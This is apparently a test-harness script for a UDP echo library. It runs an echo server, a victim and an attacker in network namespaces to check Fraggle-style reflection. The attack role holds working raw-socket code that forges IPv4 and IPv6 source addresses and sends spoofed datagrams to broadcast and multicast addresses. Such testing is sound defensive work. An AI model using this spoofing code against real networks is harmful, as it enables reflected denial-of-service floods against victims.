"""The hosts of tests/test_udp_fraggle.py, each run in its own network
namespace on one bridge: a pyecho UDP server, the victim that counts what
it receives, and the attacker that forges the victim's address with raw
sockets. Talks over stdin/stdout, one JSON object a line.

    python nsfraggle.py serve --engine native --host 0.0.0.0 --port 7777
    python nsfraggle.py victim --port 40000
    python nsfraggle.py attack --source 10.9.0.50,2001:db8::50 --port 40000 \
        --to 10.9.0.255:7777 --to ff02::1:7777 --dev eth0
"""

from __future__ import annotations

import argparse
import json
import selectors
import socket
import struct
import sys

import pyecho


def say(obj: object) -> None:
    print(json.dumps(obj), flush=True)


def serve(engine: str, host: str, port: int) -> None:
    """A server until stdin closes; then its counts."""
    with pyecho.EchoServer((host, port), engine=engine, transport="udp") as server:
        server.start()
        say({"ready": server.server_address[1]})
        sys.stdin.read()
        server.shutdown()
        stats = server.stats
    say({"in": stats.datagrams_in, "out": stats.datagrams_out, "dropped": stats.dropped})


def victim(port: int) -> None:
    """One line per datagram received on ``port`` (IPv4 and IPv6) until stdin
    closes: its payload and where it came from."""
    sock = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    sock.bind(("::", port))
    sock.setblocking(False)
    sel = selectors.DefaultSelector()
    sel.register(sock, selectors.EVENT_READ)
    sel.register(sys.stdin, selectors.EVENT_READ)
    say({"ready": port})
    while True:
        for key, _ in sel.select():
            if key.fileobj is not sock:  # stdin: a line, or closed
                if not sys.stdin.readline():
                    return
                continue
            while True:
                try:
                    data, peer = sock.recvfrom(2048)
                except BlockingIOError:
                    break
                host = peer[0].removeprefix("::ffff:")
                say({"got": data.decode(errors="replace"), "from": host})


def _fold(total: int) -> int:
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total


def _sum16(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    return sum(struct.unpack(f"!{len(data) // 2}H", data))


def forged4(src: tuple[str, int], dst: tuple[str, int], payload: bytes) -> bytes:
    """An IPv4 UDP datagram, header included, from any source."""
    header = struct.pack(
        "!BBHHHBBH4s4s",
        0x45,
        0,
        28 + len(payload),
        0,
        0,
        64,
        socket.IPPROTO_UDP,
        0,
        socket.inet_aton(src[0]),
        socket.inet_aton(dst[0]),
    )
    header = header[:10] + struct.pack("!H", ~_fold(_sum16(header)) & 0xFFFF) + header[12:]
    return header + struct.pack("!HHHH", src[1], dst[1], 8 + len(payload), 0) + payload


def forged6(src: tuple[str, int], dst: tuple[str, int], payload: bytes) -> bytes:
    """An IPv6 UDP datagram, header included, from any source (the UDP
    checksum is mandatory over IPv6)."""
    s6 = socket.inet_pton(socket.AF_INET6, src[0])
    d6 = socket.inet_pton(socket.AF_INET6, dst[0])
    length = 8 + len(payload)
    udp = struct.pack("!HHHH", src[1], dst[1], length, 0) + payload
    pseudo = s6 + d6 + struct.pack("!I3xB", length, socket.IPPROTO_UDP)
    check = ~_fold(_sum16(pseudo) + _sum16(udp)) & 0xFFFF or 0xFFFF
    udp = udp[:6] + struct.pack("!H", check) + udp[8:]
    header = struct.pack("!IHBB", 6 << 28, length, socket.IPPROTO_UDP, 64) + s6 + d6
    return header + udp


def attack(sources: list[str], port: int, targets: list[str], dev: str) -> None:
    """One datagram to each target, forged from the victim (``sources``: its
    IPv4 and IPv6 addresses, ``port``); each payload names its target."""
    source4, source6 = sources
    ifindex = socket.if_nametoindex(dev)
    raw4 = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw4.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    raw4.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, dev.encode())
    raw6 = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = []
    with raw4, raw6:
        for target in targets:
            host, _, p = target.rpartition(":")
            dst = (host, int(p))
            if ":" in host:
                raw6.sendto(forged6((source6, port), dst, target.encode()), (host, 0, 0, ifindex))
            else:
                raw4.sendto(forged4((source4, port), dst, target.encode()), (host, 0))
            sent.append(target)
    say({"sent": sent})


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("role", choices=["serve", "victim", "attack"])
    parser.add_argument("--engine", choices=pyecho.ENGINES, default="native")
    parser.add_argument("--host", default="0.0.0.0")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--source", default="")
    parser.add_argument("--to", action="append", default=[])
    parser.add_argument("--dev", default="eth0")
    args = parser.parse_args()
    if args.role == "serve":
        serve(args.engine, args.host, args.port)
    elif args.role == "victim":
        victim(args.port)
    else:
        attack(args.source.split(","), args.port, args.to, args.dev)


if __name__ == "__main__":
    main()
